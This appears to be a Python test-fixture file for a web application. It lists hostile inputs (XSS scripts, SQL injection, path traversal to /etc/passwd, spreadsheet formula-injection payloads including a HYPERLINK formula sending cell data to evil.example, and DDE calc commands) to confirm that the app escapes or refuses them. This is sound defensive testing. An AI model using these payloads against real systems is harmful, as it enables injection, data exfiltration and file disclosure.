"""Hostile input: what an attacker, a confused browser or a pasted spreadsheet sends.

`TEXTS` are kept by forms that accept any text (names, descriptions, notes): they must come back
escaped in every page and as text in every export. `TYPED` are for fields with a type (numbers,
dates, choices, ids): they must be refused with a message. `bodies()` are whole request bodies
that no form would produce.
"""

SCRIPT = '<script>alert("ancrage")</script>'
EVENT_HANDLER = '<img src=x onerror=alert("ancrage")>'
JAVASCRIPT_URL = 'javascript:alert("ancrage")'
SQL_OR = "' OR 1=1 --"
SQL_DROP = "x'); DROP TABLE core_user; --"
TRAVERSAL = "../../../../etc/passwd"
FORMULA_HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Ouvrir")'
FORMULA_CMD = "+cmd|' /C calc'!A0"
FORMULA_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_MINUS = "-2+3+cmd|' /C calc'!A0"
RTL_OVERRIDE = "facture\u202efdp.exe"
NUL = "avant\x00après"
LONG_NUMBER = "9" * 400
NEGATIVE = "-1"
HUGE_TEXT = "A" * (10 * 1024 * 1024)  # 10 MB: above DATA_UPLOAD_MAX_MEMORY_SIZE
LONG_TEXT = "Z" * 100_000  # below it: reaches the forms' length checks

# One value per family, each starting differently: a spreadsheet formula must stay text even when
# the rest of the value is a script or SQL.
TEXTS = (
    f"{FORMULA_HYPERLINK} {SCRIPT} {EVENT_HANDLER} {SQL_OR}",
    f"{SCRIPT}{EVENT_HANDLER} {JAVASCRIPT_URL} {RTL_OVERRIDE}",
    f"{FORMULA_CMD} {SQL_DROP} {TRAVERSAL}",
    f"{FORMULA_SUM} {RTL_OVERRIDE}",
    f"{FORMULA_MINUS} {SCRIPT}",
    JAVASCRIPT_URL,
    TRAVERSAL,
)

TYPED = (NUL, LONG_NUMBER, NEGATIVE, TRAVERSAL, SQL_OR, LONG_TEXT, str(2**70), "1e999", "NaN")

# What escaped output looks like, and what must never appear as markup.
# ("onerror=alert(" alone may be escaped text: the HTML parser of the tests finds real attributes.)
NEVER_IN_PAGES = ("<script>alert(", "<img src=x onerror")
ESCAPED_SCRIPT = "&lt;script&gt;alert("

# Whole bodies: not UTF-8, malformed and deeply nested JSON, a huge JSON document.
BAD_UTF8_BODY = b"name=%FF%FE%C0%AF&title=\xff\xfe\xc0\xaf&description=\xed\xa0\x80"
MALFORMED_JSON = b'{"name": "x", "title": '
NESTED_JSON = b"[" * 100_000 + b"]" * 100_000
HUGE_JSON = b'{"name": "' + b"A" * (3 * 1024 * 1024) + b'"}'

# Query parameters and path segments for the API.
API_VALUES = (
    SCRIPT,
    SQL_OR,
    SQL_DROP,
    TRAVERSAL,
    "..%2F..%2Fetc%2Fpasswd",
    FORMULA_HYPERLINK,
    RTL_OVERRIDE,
    "%00",
    LONG_NUMBER,
    NEGATIVE,
    "A" * 5000,
    "true'",
    "9999-99-99T99:99:99Z",
    "%FF%FE",
)
